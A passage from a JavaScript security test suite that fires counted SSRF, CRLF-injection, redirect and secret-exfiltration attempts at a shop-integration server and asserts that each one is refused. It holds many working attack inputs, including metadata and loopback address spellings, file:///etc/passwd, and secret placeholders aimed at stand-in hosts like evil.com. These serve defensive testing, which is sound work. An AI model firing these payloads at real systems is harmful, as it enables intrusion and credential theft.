// Issue #10 "Nobody gets in", counted. Every attack below goes through the real HTTP surface of a
// running server and is counted; the figures are printed (t.diagnostic) and asserted:
//   1. proxy: a generated corpus of SSRF attempts (loopback / private / link-local / metadata
//      addresses in every spelling, names resolving to them, redirects, look-alike and off-list
//      hosts, user@host, CRLF injection, secret-leaking placeholders, oversized bodies, odd
//      schemes) — a canary server on loopback counts every request that gets out: escapes = 0,
//      refused = attempts;
//   2. secrets: one whole sandbox run over every platform (connect, OAuth, sync every entity,
//      webhooks, errors, every read endpoint, exports, the SSE stream, every log line): no
//      secret value, nor its URL-encoded or base64 form, reaches the page, a log, a record;
//   3. webhooks: forged and missing signatures, replays, unknown stores, oversized and malformed
//      bodies — refused with codes, replays applied once;
//   4. stores: every operation of openapi.json (so a route added later is covered) tried with
//      store B's token on store A's ids — nothing read, changed or deleted.
// Reproduce: node --test tests/js/security.test.js (PostgreSQL parts start their own cluster).
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { createHmac, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { SANDBOXES } from '../../web/sandbox/index.js';
import { sameSecret } from '../../web/server/app.js';
import { BACKENDS, sl, spec, startServer, createStore, kiotvietCredentials, kiotvietSignature, waitRun, eventually } from './helpers/server.js';

const PLATFORMS = new Map(sl.platforms().map((p) => [p.id, p]));
const fixture = (platform, name) => readFileSync(new URL(`../fixtures/${platform}/${name}.json`, import.meta.url), 'utf8');
const hmacBase64 = (secret, body) => createHmac('sha256', secret).update(body).digest('base64');
const family = (address) => (address.includes(':') ? 6 : 4);

/** Raw POST/GET (no spec assertion before counting: an undocumented answer is counted as such). */
async function send(base, method, path, { token, body, headers = {} } = {}) {
  const h = { ...headers };
  if (token) h.authorization = `Bearer ${token}`;
  let payload = body;
  if (body !== undefined && typeof body !== 'string' && !Buffer.isBuffer(body)) {
    payload = JSON.stringify(body);
    h['content-type'] ??= 'application/json';
  }
  const res = await fetch(base + path, { method, headers: h, body: payload, redirect: 'manual' });
  const text = await res.text();
  let json = null;
  try {
    json = JSON.parse(text);
  } catch {
    /* not JSON */
  }
  return { status: res.status, text, json, headers: Object.fromEntries(res.headers) };
}

/** Counts attacks: each must end with one of its refusal statuses. */
function tally(name) {
  const t = { name, attempts: 0, refused: 0, unexpected: [], byStatus: {} };
  t.check = (label, res, expected) => {
    t.attempts++;
    t.byStatus[res.status] = (t.byStatus[res.status] ?? 0) + 1;
    if (expected(res)) t.refused++;
    else t.unexpected.push(`${label} → ${res.status} ${res.text.slice(0, 160)}`);
  };
  return t;
}

// --- 1. the proxy -----------------------------------------------------------------------------
describe('proxy: a counted attack corpus through POST /api/proxy/:id', () => {
  const canary = { hits: [], servers: [] };
  let P;
  let prod;
  let sandbox;
  const lookups = [];
  // What the injected resolver answers: every name resolves somewhere private.
  const ANSWERS = {
    'public.kiotapi.com': ['127.0.0.1'],
    'id.kiotviet.vn': ['93.184.216.34', '169.254.169.254'], // one bad answer among good ones
    'tenshop.mysapo.net': ['::ffff:127.0.0.1'],
    'apis.haravan.com': ['10.0.0.5'],
    'pos.open.nhanh.vn': ['fe80::1'],
    'pos.pages.fm': ['fd00::1'],
    'pos.pancake.vn': ['::1'],
    'erp.congty.vn': ['127.0.0.1'],
    'demo.getflycrm.com': ['0.0.0.0'],
    'graphapi.mshopkeeper.vn': ['169.254.169.254'],
    'localhost': ['127.0.0.1', '::1'],
    'metadata.google.internal': ['169.254.169.254'],
  };
  const resolve = async (host) => {
    lookups.push(host);
    // Names not listed (any *.mysapo.net shop, say) resolve to loopback: the address gate decides.
    return (ANSWERS[host] ?? ['127.0.0.1']).map((address) => ({ address, family: family(address) }));
  };
  // Loopback, private, link-local, metadata, in every spelling (with the canary's port).
  const ADDRESSES = [
    '127.0.0.1', '127.1', '127.0.1', '2130706433', '0177.0.0.1', '0177.1', '0x7f.1', '0x7f.0.0.1', '0x7f000001', '017700000001', '127.000.000.001',
    '0', '0.0.0.0', '[::]', '[::1]', '[0:0:0:0:0:0:0:1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:127.0.0.1]', '[::127.0.0.1]',
    '[64:ff9b::7f00:1]', '[2002:7f00:1::]', 'localhost', 'LOCALHOST', 'localhost.',
    '169.254.169.254', '2852039166', '0xa9.0xfe.0xa9.0xfe', '0251.0376.0251.0376', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[fd00:ec2::254]',
    '[fe80::1]', '[fe80::1%25eth0]', '[fd00::]', '[fd00::1]', '[fc00::1]', '10.0.0.1', '10.1', '172.16.0.1', '172.31.255.255', '192.168.0.1', '192.168.1',
    '100.64.0.1', '198.18.0.1', '224.0.0.1', '255.255.255.255', 'metadata.google.internal',
  ];

  before(async () => {
    const onHit = (req, res) => {
      canary.hits.push(`${req.method} ${req.headers.host} ${req.url}`);
      res.end('canary');
    };
    const v4 = http.createServer(onHit);
    await new Promise((r) => v4.listen(0, '127.0.0.1', r));
    P = v4.address().port;
    canary.servers.push(v4);
    const v6 = http.createServer(onHit); // same port on ::1, where the host has IPv6
    await new Promise((r) => {
      v6.once('error', () => r());
      v6.listen(P, '::1', () => (canary.servers.push(v6), r()));
    });
    // Control: the canary counts what reaches it (so 0 escapes means 0, not a deaf canary).
    for (const host of canary.servers.length > 1 ? ['127.0.0.1', '[::1]'] : ['127.0.0.1']) await (await fetch(`http://${host}:${P}/control`)).text();
    assert.equal(canary.hits.length, canary.servers.length);
    canary.hits.length = 0;
    prod = await startServer('sqlite', { mode: 'production', resolve });
    sandbox = await startServer('sqlite', {
      resolve,
      maxResponseBytes: 64 * 1024,
      sandboxes: ['kiotviet', 'sapo'],
      sandboxOptions: { kiotviet: { counts: { products: 10, customers: 10, orders: 10, invoices: 5 } }, sapo: { counts: { products: 5, customers: 5, orders: 5 } } },
    });
  });
  after(async () => {
    await prod?.close();
    await sandbox?.close();
    for (const s of canary.servers) await new Promise((r) => s.close(r));
  });

  /** Inserts a connection directly (production: nothing to verify against). */
  async function plant(t, store, platform, account, secrets) {
    const id = `cn_${randomBytes(5).toString('hex')}`;
    await t.server.repo.connections.insert({
      id, storeId: store.id, platform, name: platform, status: 'active', settings: {}, account,
      secretsEnc: t.server.vault.seal({ ...account, ...secrets }, id), secretsSet: Object.keys(secrets),
    });
    return id;
  }

  test('production mode: every spelling, every name, every trick — refused, nothing reaches the canary', async (t) => {
    const store = await createStore(prod.server, 'Shop P');
    const conns = {
      kiotviet: await plant(prod, store, 'kiotviet', { retailer: 'shop' }, { clientId: 'cid-123456', clientSecret: 'csecret-ABCDEF-123456' }),
      sapo: await plant(prod, store, 'sapo', { store: 'tenshop' }, { apiKey: 'sapo-key-123456', apiSecret: 'sapo-secret-123456' }),
      haravan: await plant(prod, store, 'haravan', { shop: 'tenshop' }, { accessToken: 'hrv-token-123456' }),
      nhanh: await plant(prod, store, 'nhanh', { account: 'a@b.vn', businessId: '1', appId: '2' }, { accessToken: 'nhanh-token-123456', secretKey: 'nhanh-secret-123456' }),
      pancake: await plant(prod, store, 'pancake', { shopId: '1234' }, { apiKey: 'pancake-key-123456' }),
      odoo: await plant(prod, store, 'odoo', { url: `http://erp.congty.vn:${P}`, database: 'db', login: 'api' }, { apiKey: 'odoo-key-123456' }),
      odooLiteral: await plant(prod, store, 'odoo', { url: `http://127.0.0.1:${P}`, database: 'db', login: 'api' }, { apiKey: 'odoo-key-654321' }),
      getfly: await plant(prod, store, 'getfly', { domain: 'demo.getflycrm.com' }, { apiKey: 'getfly-key-123456' }),
      misa: await plant(prod, store, 'misa', { domain: 'shop.mshopkeeper.vn', appId: 'app' }, { secretKey: 'misa-secret-123456' }),
    };
    const tl = tally('proxy (production)');
    const refused = (r) => (r.status === 400 || r.status === 403) && ['forbidden', 'invalid_input', 'invalid_credentials'].includes(r.json?.error?.code);
    const fire = async (connId, label, descriptor) => {
      const r = await send(prod.url, 'POST', `/api/proxy/${connId}`, { token: store.token, body: { method: 'GET', query: [], headers: [], body: '', ...descriptor } });
      tl.check(`${label} ${descriptor.url ?? ''}`, r, refused);
      return r;
    };
    for (const [key, id] of Object.entries(conns)) {
      const info = PLATFORMS.get(key.replace(/Literal$/, ''));
      const row = await prod.server.repo.connections.get(store.id, id);
      const hosts = [...new Set([...info.apiHosts, ...Object.keys(ANSWERS).filter((h) => info.apiHostPatterns.some((p) => p.startsWith('*.') && h.endsWith(p.slice(1)))), ...(row.account.url ? [new URL(row.account.url).hostname] : [])])];
      // Names on the allowlist that resolve to private addresses (the canary's port where allowed).
      for (const h of hosts) {
        await fire(id, `${key}: allowed name resolving privately`, { url: `https://${h}/x` });
        await fire(id, `${key}: allowed name, canary port`, { url: `http://${h}:${P}/x` });
      }
      // Literal addresses in every spelling, by http and https.
      for (const a of ADDRESSES) {
        await fire(id, `${key}: address`, { url: `http://${a}:${P}/latest/meta-data/` });
        await fire(id, `${key}: address`, { url: `https://${a}/` });
      }
      for (const h of hosts) {
        // Look-alikes, off-list names, user@host and fragment/backslash tricks.
        for (const url of [
          `https://${h}.evil.com/`, `https://evil-${h}/`, `https://x${h}/`, `https://${h}./`, `https://${h}:${P}/`, `https://${h}:8443/`,
          `https://${h}@127.0.0.1:${P}/`, `https://${h}:pw@127.0.0.1:${P}/`, `https://user@${h}/`, `https://user:${h}@${h}/`,
          `http://127.0.0.1:${P}#@${h}/`, `http://127.0.0.1:${P}?@${h}/`, `http://127.0.0.1:${P}\\@${h}/`, `http://${h}%2e127.0.0.1:${P}/`,
          `https://${h.toUpperCase()}.evil.com/`, `https://${h}%00.evil.com/`,
        ]) await fire(id, `${key}: look-alike / userinfo`, { url });
      }
      for (const url of ['https://mysapo.net.evil.com/', 'https://evil-mysapo.net/', 'https://a.b.mysapo.net/', 'https://mysapo.net/', 'https://tenshop.mysapo.net.evil.com/', 'https://pos.open.nhanh.vn@127.0.0.1/',
        `https://pos.open.nhanh.vn@127.0.0.1:${P}/`, 'https://evil.example.com/', 'https://attacker.com/?x=pos.open.nhanh.vn']) {
        await fire(id, `${key}: off-list`, { url });
      }
      // Schemes.
      for (const url of ['file:///etc/passwd', `ftp://127.0.0.1:${P}/`, `gopher://127.0.0.1:${P}/_GET%20/`, `ws://127.0.0.1:${P}/`, `dict://127.0.0.1:${P}/`, 'data:text/plain,x',
        'javascript:alert(1)', `//127.0.0.1:${P}/`, '/relative', `${hosts[0] ?? 'x'}/no-scheme`, `ldap://127.0.0.1:${P}/`]) {
        await fire(id, `${key}: scheme`, { url });
      }
      // CRLF into headers and the URL.
      await fire(id, `${key}: CRLF value`, { url: `https://${hosts[0]}/`, headers: [['X-A', `v\r\nHost: 127.0.0.1:${P}`]] });
      await fire(id, `${key}: CRLF name`, { url: `https://${hosts[0]}/`, headers: [[`X-A\r\nHost: 127.0.0.1:${P}\r\nX-B`, 'v']] });
      await fire(id, `${key}: CRLF url`, { url: `https://${hosts[0]}/x HTTP/1.1\r\nHost: 127.0.0.1:${P}\r\n\r\n` });
      await fire(id, `${key}: method`, { url: `https://${hosts[0]}/`, method: 'GET / HTTP/1.1\r\nHost: x' });
      // Placeholders for secrets this connection does not have.
      for (const name of ['nope', 'webhookSecret', 'clientSecret', 'apiSecret', '__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
        if (Object.hasOwn(prod.server.services.secretsOf(row), name)) continue;
        await fire(id, `${key}: unknown secret`, { url: `https://${hosts[0]}/`, headers: [['X-Leak', `{{secret.${name}}}`]] });
      }
    }
    // A user-given URL (Odoo) naming a private address is refused when connecting, too.
    const conn = tally('connection URLs (production)');
    for (const url of [`http://127.0.0.1:${P}`, `http://2130706433:${P}`, `http://0x7f.1:${P}`, `http://[::1]:${P}`, `http://[::ffff:127.0.0.1]:${P}`, `http://localhost:${P}`, `http://erp.congty.vn:${P}`, 'http://169.254.169.254', `http://user@erp.congty.vn:${P}`]) {
      const r = await send(prod.url, 'POST', '/api/connections', { token: store.token, body: { platform: 'odoo', credentials: { url, database: 'db', login: 'api', apiKey: 'odoo-key-123456' } } });
      conn.check(`odoo url ${url}`, r, (x) => [400, 403, 422].includes(x.status));
    }
    for (const domain of ['127.0.0.1', `127.0.0.1:${P}`, 'localhost', 'metadata.google.internal']) {
      const r = await send(prod.url, 'POST', '/api/connections', { token: store.token, body: { platform: 'getfly', credentials: { domain, apiKey: 'getfly-key-123456' } } });
      conn.check(`getfly domain ${domain}`, r, (x) => [400, 403, 422].includes(x.status));
    }
    t.diagnostic(`proxy (production): attempts ${tl.attempts}, refused ${tl.refused}, escapes ${canary.hits.length}; DNS lookups answered ${lookups.length}; statuses ${JSON.stringify(tl.byStatus)}`);
    t.diagnostic(`connection URLs (production): attempts ${conn.attempts}, refused ${conn.refused}, escapes ${canary.hits.length}`);
    assert.deepEqual(canary.hits, [], 'escapes');
    assert.deepEqual(tl.unexpected, [], 'every attack refused');
    assert.equal(tl.refused, tl.attempts);
    assert.deepEqual(conn.unexpected, []);
    assert.ok(tl.attempts > 1000, `a real corpus (${tl.attempts})`);
    assert.ok(lookups.length > 0, 'names were resolved and their answers judged');
  });

  test('sandbox mode: redirects, CRLF, placeholders, secrets in hosts, oversized bodies — refused, the simulator and the canary see nothing', async (t) => {
    const api = sandbox.api();
    const sim = sandbox.server.sandboxes.kiotviet.sim;
    const conn = (await api.post('/api/connections', { platform: 'kiotviet', credentials: kiotvietCredentials(sandbox.server) })).body.connection;
    const sapoCreds = { ...sandbox.server.sandboxes.sapo.secrets };
    const sapo = (await api.post('/api/connections', { platform: 'sapo', credentials: sapoCreds })).body.connection;
    assert.equal(conn.status, 'active');
    assert.equal(sapo.status, 'active');
    const store = sandbox.server.demo.store;
    const crlf = await plant(sandbox, store, 'kiotviet', { retailer: 'demoshop' }, { clientId: 'x', clientSecret: 'abc\r\nX-Injected: 1' });
    const tl = tally('proxy (sandbox)');
    const base = { method: 'GET', url: 'https://public.kiotapi.com/branches', query: [], headers: [], body: '' };
    let silent = false; // refusals that must happen before anything is sent to the platform
    const fire = async (connId, label, descriptor, expected = (r) => [400, 403].includes(r.status)) => {
      const sent = sim.stats().total;
      const r = await send(sandbox.url, 'POST', `/api/proxy/${connId}`, { token: 'demo-token', body: { ...base, ...descriptor } });
      tl.check(label, r, (x) => expected(x) && (!silent || sim.stats().total === sent));
      return r;
    };
    // A control: the same route reaches the simulator when nothing is wrong.
    const okBefore = sim.stats().total;
    assert.equal((await send(sandbox.url, 'POST', `/api/proxy/${conn.id}`, { token: 'demo-token', body: base })).status, 200);
    assert.equal(sim.stats().total, okBefore + 1);

    // Redirects from the platform: to loopback, metadata, other hosts, other ports, userinfo.
    const targets = [`http://127.0.0.1:${P}/`, `http://localhost:${P}/`, `http://[::1]:${P}/`, `http://2130706433:${P}/`, `http://0x7f.1:${P}/`, `http://[::ffff:127.0.0.1]:${P}/`,
      'http://169.254.169.254/latest/meta-data/', `//127.0.0.1:${P}/x`, 'https://evil.example.com/steal', 'https://public.kiotapi.com.evil.com/', `https://public.kiotapi.com:${P}/`,
      `https://user:pw@id.kiotviet.vn/`, `https://id.kiotviet.vn@127.0.0.1:${P}/`, 'file:///etc/passwd', `gopher://127.0.0.1:${P}/`, `http://metadata.google.internal/`];
    for (const status of [301, 302, 303, 307, 308]) {
      for (const location of targets) {
        sim.failNext([{ status, headers: { location }, body: '' }]);
        await fire(conn.id, `redirect ${status} → ${location}`, {}, (r) => r.status === 403);
      }
    }
    // Two hops: on the allowlist first, then off it.
    sim.failNext([{ status: 302, headers: { location: 'https://id.kiotviet.vn/hop' } }, { status: 302, headers: { location: `http://127.0.0.1:${P}/` } }]);
    await fire(conn.id, 'redirect chain → loopback', {}, (r) => r.status === 403);

    const before = sim.stats().total;
    silent = true;
    // CRLF in names, values, the URL and the method; a stored secret holding CRLF.
    for (const [name, value] of [['X-A', 'v\r\nX-Injected: 1'], ['X-A', 'v\nX-Injected: 1'], ['X-A', 'v\rX'], ['X-A', 'v\u0000'], ['X-A\r\nX-Injected', '1'], ['X A', '1'], ['', '1'], ['X-A:', '1'], ['X-Ä', '1'], ['X-A', 'Cửa hàng\r\n']]) {
      await fire(conn.id, `CRLF header ${JSON.stringify([name, value])}`, { headers: [[name, value]] });
    }
    for (const url of ['https://public.kiotapi.com/branches\r\nX-Injected: 1', 'https://public.kiotapi.com/branches HTTP/1.1\r\nHost: evil\r\n\r\nGET /', 'https://public.kiotapi.com/\nbranches', 'https://public.kiotapi.com/\u0000']) {
      await fire(conn.id, `CRLF url ${JSON.stringify(url)}`, { url });
    }
    for (const method of ['GET /x HTTP/1.1\r\nX: y', 'TRACE', 'CONNECT', 'OPTIONS', 'get\r\n']) await fire(conn.id, `method ${JSON.stringify(method)}`, { method });
    await fire(crlf, 'a stored secret with CRLF', { headers: [['X-Secret', '{{secret.clientSecret}}']] });
    await fire(crlf, 'a stored secret with CRLF in the URL', { url: 'https://public.kiotapi.com/{{secret.clientSecret}}' });
    // Placeholders that try to reach another connection's secret or none at all.
    // (accessToken is this connection's own, kept at verification, and so is the webhookSecret
    // it registered its webhooks with: not an attack — the one other connection has none.)
    for (const name of ['apiSecret', 'apiKey', 'webhookSecret', 'nope', '__proto__', 'constructor', 'toString', 'valueOf', 'prototype', '', '.', 'clientSecret.x']) {
      await fire(crlf, `placeholder {{secret.${name}}} (a connection without it)`, { url: 'https://public.kiotapi.com/branches', headers: [['X-Leak', `{{secret.${name}}}`]] });
      if (Object.hasOwn(sandbox.server.services.secretsOf(await sandbox.server.repo.connections.get(store.id, conn.id)), name)) continue;
      await fire(conn.id, `placeholder {{secret.${name}}}`, { headers: [['X-Leak', `{{secret.${name}}}`]] });
    }
    // A secret filled into the host name: refused, and the refusal does not spell the secret.
    const secrets = sandbox.server.services.secretsOf(await sandbox.server.repo.connections.get(store.id, conn.id));
    for (const url of ['https://{{secret.clientSecret}}.evil.com/', 'https://{{secret.clientId}}/', 'https://public.kiotapi.com.{{secret.clientSecret}}.evil.com/', 'https://{{secret.clientSecret}}@127.0.0.1/']) {
      const r = await fire(conn.id, `secret in host ${url}`, { url });
      for (const v of [secrets.clientSecret, secrets.clientId]) assert.ok(!r.text.toLowerCase().includes(v.toLowerCase()), `the refusal spells a secret: ${r.text}`);
    }
    const sapoSecrets = sandbox.server.services.secretsOf(await sandbox.server.repo.connections.get(store.id, sapo.id));
    const r = await fire(sapo.id, 'sapo secret as a shop name', { url: 'https://{{secret.apiSecret}}.mysapo.net.evil.com/' });
    assert.ok(!r.text.includes(sapoSecrets.apiSecret));
    // Another store's token on this connection.
    const other = await createStore(sandbox.server, 'Shop Q');
    const foreign = await send(sandbox.url, 'POST', `/api/proxy/${conn.id}`, { token: other.token, body: base });
    tl.check("another store's token", foreign, (x) => x.status === 404);
    assert.equal(sim.stats().total, before, 'nothing refused was sent to the simulator');
    silent = false;

    // Oversized: a request body over the route's limit, a response over the proxy's.
    const big = await send(sandbox.url, 'POST', `/api/proxy/${conn.id}`, { token: 'demo-token', body: { ...base, method: 'POST', body: 'x'.repeat(9 * 1024 * 1024) } });
    tl.check('request body over 8 MiB', big, (x) => x.status === 413 && x.json?.error?.code === 'payload_too_large');
    sim.failNext([{ status: 200, body: 'x'.repeat(200_000) }]);
    await fire(conn.id, 'response over 64 KiB', {}, (x) => x.status === 502 && /larger than/.test(x.json?.error?.detail ?? ''));

    t.diagnostic(`proxy (sandbox): attempts ${tl.attempts}, refused ${tl.refused}, escapes ${canary.hits.length}; statuses ${JSON.stringify(tl.byStatus)}`);
    assert.deepEqual(canary.hits, [], 'escapes');
    assert.deepEqual(tl.unexpected, []);
    assert.equal(tl.refused, tl.attempts);
  });
});

// --- 2. secrets across a whole sandbox run ----------------------------------------------------
const SMALL = { products: 12, customers: 10, orders: 14 };
const ALL_SANDBOXES = Object.keys(SANDBOXES).filter((p) => PLATFORMS.get(p)?.status === 'available');

/** Nhanh.vn's consent page as a browser uses it (tests/js/server-oauth.test.js). */
async function consent(url, account) {
  const u = new URL(url);
  await (await fetch(url)).text();
  const form = new URLSearchParams({ appId: u.searchParams.get('appId'), returnLink: u.searchParams.get('returnLink'), account });
  return fetch(new URL('/oauth', url), { method: 'POST', body: form, redirect: 'manual' });
}

// The one place a secret may reach the page, on purpose: a Pancake POS connection's webhook
// secret, which the shop owner pastes into Pancake POS (it signs nothing, pancake.md §1.8), and
// likewise a Getfly connection's Secret Key (sent back in clear, getfly.md §3.6). The scan lets
// exactly that through — the x-webhook-secret entry of a pancake connection view's
// webhookHeaders, the Secret Key entry of a getfly one's webhookFields, in answers of the /api/connections routes (the rotate answer included) and in
// the stream's `connection` events — and the run then checks that what it let through is that
// connection's webhook secret and nothing else. Anywhere else the value is a leak like any other.
const CONNECTION_ROUTE = /^(GET|POST|PATCH|DELETE) \/api\/connections(\/|\?|$)/;
function withoutPasted(value, pasted) {
  if (Array.isArray(value)) return value.map((v) => withoutPasted(v, pasted));
  if (!value || typeof value !== 'object') return value;
  const out = Object.fromEntries(Object.entries(value).map(([k, v]) => [k, withoutPasted(v, pasted)]));
  if (value.platform === 'pancake' && typeof value.id === 'string' && 'webhookUrl' in value && Array.isArray(value.webhookHeaders)) {
    out.webhookHeaders = value.webhookHeaders.map((h) => {
      if (h?.name !== 'x-webhook-secret' || typeof h.value !== 'string') return withoutPasted(h, pasted);
      pasted.push({ connection: value.id, value: h.value });
      return { ...h, value: '[pasted]' };
    });
  }
  if (value.platform === 'getfly' && typeof value.id === 'string' && 'webhookUrl' in value && Array.isArray(value.webhookFields)) {
    out.webhookFields = value.webhookFields.map((f) => {
      if (f?.name !== 'Secret Key' || typeof f.value !== 'string') return withoutPasted(f, pasted);
      pasted.push({ connection: value.id, value: f.value });
      return { ...f, value: '[pasted]' };
    });
  }
  return out;
}
/** What the scan reads of one answer (label: "METHOD /path"). */
function scanned(label, r, pasted) {
  let text = r.text;
  if (CONNECTION_ROUTE.test(label) && text) {
    try {
      text = JSON.stringify(withoutPasted(JSON.parse(text), pasted));
    } catch {
      /* not JSON: scanned as it is */
    }
  }
  return `${label} ${r.status} ${JSON.stringify(r.headers)} ${text}`;
}
/** What the scan reads of the event stream. */
function scannedStream(text, pasted) {
  return text.split('\n\n').map((block) => {
    const data = /^data: (.*)$/m.exec(block)?.[1];
    if (/^event: (.*)$/m.exec(block)?.[1] !== 'connection' || !data) return block;
    try {
      return `event: connection\ndata: ${JSON.stringify(withoutPasted(JSON.parse(data), pasted))}`;
    } catch {
      return block;
    }
  }).join('\n\n');
}
const secretForms = (v) => new Set([v, encodeURIComponent(v), Buffer.from(v).toString('base64'), Buffer.from(v).toString('base64url')]);
/** Where each secret (any of its forms) appears in `texts` ([where, text]). */
function leaksIn(secrets, texts) {
  const leaks = [];
  for (const v of secrets) for (const f of secretForms(v)) for (const [where, text] of texts) if (text.includes(f)) leaks.push(`${where}: ${text.slice(0, 160)}`);
  return leaks;
}
/** What the scan let through that is not the connection's webhook secret. */
const wronglyPasted = (pasted, allowed) => pasted.filter((p) => !allowed.get(p.connection)?.has(p.value));

test('the secret scan lets the pasted webhook header through where the page must see it, and nowhere else', () => {
  const secret = 'pc-hook-Zm9vYmFyYmF6cXV4MTIzNDU2';
  const apiKey = 'pancake-api-key-0001';
  const view = (extra = {}) => ({ id: 'cn_pc', platform: 'pancake', account: { shopId: '1' }, webhookUrl: 'https://x/webhooks/pancakepos?connection=cn_pc', webhookHeaders: [{ name: 'x-store-id', value: '1' }, { name: 'x-webhook-secret', value: secret }], ...extra });
  const res = (body, headers = {}) => ({ status: 200, headers, text: JSON.stringify(body) });
  const allowed = new Map([['cn_pc', new Set([secret])]]);
  const scan = (label, r) => {
    const pasted = [];
    const text = label === 'SSE' ? scannedStream(r, pasted) : scanned(label, r, pasted);
    return { leaks: leaksIn([secret, apiKey], [[label, text]]), wrong: wronglyPasted(pasted, allowed), pasted };
  };
  // Let through: the connection view, from every connection route and the stream.
  for (const [label, body] of [['GET /api/connections', { connections: [view()] }], ['GET /api/connections/cn_pc', { connection: view() }], ['POST /api/connections/cn_pc/webhook-secret', { connection: view() }], ['PATCH /api/connections/cn_pc', { connection: view(), locations: [] }]]) {
    const r = scan(label, res(body));
    assert.deepEqual([r.leaks, r.wrong, r.pasted.length], [[], [], 1], label);
  }
  const sse = `event: ready\ndata: {}\n\nevent: connection\ndata: ${JSON.stringify({ connection: view() })}\n\n`;
  assert.deepEqual(scan('SSE', sse).leaks, []);
  // Caught: the same value anywhere else.
  const caught = [
    ['GET /api/records', res({ records: [view()] })],
    ['GET /api/events/ev_1', res({ event: { body: `x-webhook-secret: ${secret}` } })],
    ['GET /api/connections', res({ connections: [view({ account: { shopId: '1', note: secret } })] })],
    ['GET /api/connections', res({ connections: [view({ webhookHeaders: [{ name: 'x-store-id', value: secret }] })] })],
    ['GET /api/connections', res({ connections: [view({ platform: 'kiotviet' })] })],
    ['GET /api/connections', res({ connections: [{ ...view(), webhookUrl: undefined }] })],
    ['GET /api/connections', res({ connections: [view()] }, { 'x-debug': secret })],
    ['GET /api/connections', res({ connections: [view({ statusError: { message: encodeURIComponent(secret) } })] })],
    ['POST webhook pancake', res({ connection: view() })],
    ['SSE', `event: webhook\ndata: ${JSON.stringify({ connection: view() })}\n\n`],
  ];
  for (const [label, r] of caught) assert.ok(scan(label, r).leaks.length > 0, `${label} ${typeof r === 'string' ? r : r.text}`);
  // Caught afterwards: another secret pasted as the webhook secret, or another connection's.
  assert.equal(scan('GET /api/connections', res({ connections: [view({ webhookHeaders: [{ name: 'x-webhook-secret', value: apiKey }] })] })).wrong.length, 1);
  assert.equal(scan('GET /api/connections', res({ connections: [view({ id: 'cn_other' })] })).wrong.length, 1);
  // Getfly: the Secret Key field of its own view, the same way.
  const gf = (extra = {}) => ({ id: 'cn_pc', platform: 'getfly', account: {}, webhookUrl: 'https://x/webhooks/getfly?connection=cn_pc', webhookHeaders: null, webhookFields: [{ name: 'Secret Key', value: secret }], ...extra });
  let g = scan('GET /api/connections/cn_pc', res({ connection: gf() }));
  assert.deepEqual([g.leaks, g.wrong, g.pasted.length], [[], [], 1]);
  g = scan('GET /api/connections/cn_pc', res({ connection: gf({ webhookFields: [{ name: 'Callback URL', value: secret }] }) }));
  assert.ok(g.leaks.length > 0, 'another field of the form is not let through');
});

describe('secrets: one whole sandbox run over every platform', () => {
  let t;
  const seen = []; // every response the page (or a platform) received: status, headers, body
  const pasted = []; // what the scan let through (the pasted webhook header, see withoutPasted)
  const record = (label, r) => seen.push(scanned(label, r, pasted));
  const call = async (method, path, opts = {}) => {
    const r = await send(t.url, method, path, { token: 'demo-token', ...opts });
    record(`${method} ${path.split('?')[0]}`, r); // (what was sent is not scanned: only what came back)
    return r;
  };
  before(async () => {
    t = await startServer('sqlite', {
      sandboxes: ALL_SANDBOXES,
      sandboxOptions: Object.fromEntries(ALL_SANDBOXES.map((p) => [p, { counts: p === 'kiotviet' ? { ...SMALL, invoices: 6 } : SMALL }])),
      sandboxRateSpeedup: 20,
      haravanVerifyToken: 'hrv-verify-token-7f3a9c',
      resolve: async (h) => {
        throw Object.assign(new Error(`ENOTFOUND ${h}`), { code: 'ENOTFOUND' });
      },
    });
  });
  after(() => t?.close());

  test('no secret value appears in any response, header, log line, error, event or record', async (tc) => {
    const poll = t.api(); // run polling: its responses are scanned too
    // The live stream, open for the whole run.
    const ac = new AbortController();
    const stream = await fetch(`${t.url}/api/stream?access_token=demo-token`, { signal: ac.signal });
    let streamed = '';
    const reading = (async () => {
      const dec = new TextDecoder();
      try {
        for await (const chunk of stream.body) streamed += dec.decode(chunk);
      } catch {
        /* aborted at the end */
      }
    })();

    const creds = Object.fromEntries((await call('GET', '/api/sandbox/credentials')).json.platforms.map((p) => [p.platform, p.credentials]));
    seen.pop(); // the sandbox's example credentials are shown by design (sandbox mode only; 404 in production)
    // The shop types these in; Pancake POS's is generated by StoreLink and read from the view.
    const givenSecrets = {
      kiotviet: Buffer.from(randomBytes(18)).toString('base64'),
      haravan: t.server.sandboxes.haravan.sim.info().webhookSecret,
      getfly: t.server.sandboxes.getfly.sim.info().webhookSecret,
    };
    const conns = {};
    for (const p of ALL_SANDBOXES) {
      if (p === 'nhanh') continue;
      const body = { platform: p, credentials: { ...creds[p], ...(givenSecrets[p] ? { webhookSecret: givenSecrets[p] } : {}) } };
      const r = await call('POST', '/api/connections', { body });
      assert.equal(r.status, 201, `${p}: ${r.text.slice(0, 300)}`);
      conns[p] = r.json.connection;
    }
    const pastedSecret = (c) => c.webhookHeaders?.find((h) => h.name === 'x-webhook-secret')?.value;
    const webhookSecrets = { ...givenSecrets, pancake: pastedSecret(conns.pancake) };
    assert.ok(webhookSecrets.pancake?.length >= 24, 'Pancake POS: a generated webhook secret to paste');
    const pancakeSecrets = new Set([webhookSecrets.pancake]); // every one the connection had (rotation below)
    // Nhanh.vn through its consent page.
    {
      const r = await call('POST', '/api/connections', { body: { platform: 'nhanh', credentials: { account: creds.nhanh.account } } });
      const start = await call('GET', `/api/connections/${r.json.connection.id}/oauth/start`, { headers: { accept: 'application/json' } });
      const cookie = (start.headers['set-cookie'] ?? '').split(';')[0];
      const back = await consent(start.json.url, creds.nhanh.account);
      const done = await fetch(back.headers.get('location'), { headers: { cookie }, redirect: 'manual' });
      record('GET /oauth/nhanh/return', { status: done.status, headers: Object.fromEntries(done.headers), text: await done.text() });
      assert.equal(done.headers.get('location'), '/#/channels/nhanh?oauth=ok');
      conns.nhanh = (await call('GET', `/api/connections/${r.json.connection.id}`)).json.connection;
      assert.equal(conns.nhanh.status, 'active');
    }

    // Sync every entity of every platform (platforms in parallel).
    const runs = [];
    await Promise.all(Object.entries(conns).map(async ([p, c]) => {
      for (const entity of PLATFORMS.get(p).entities) {
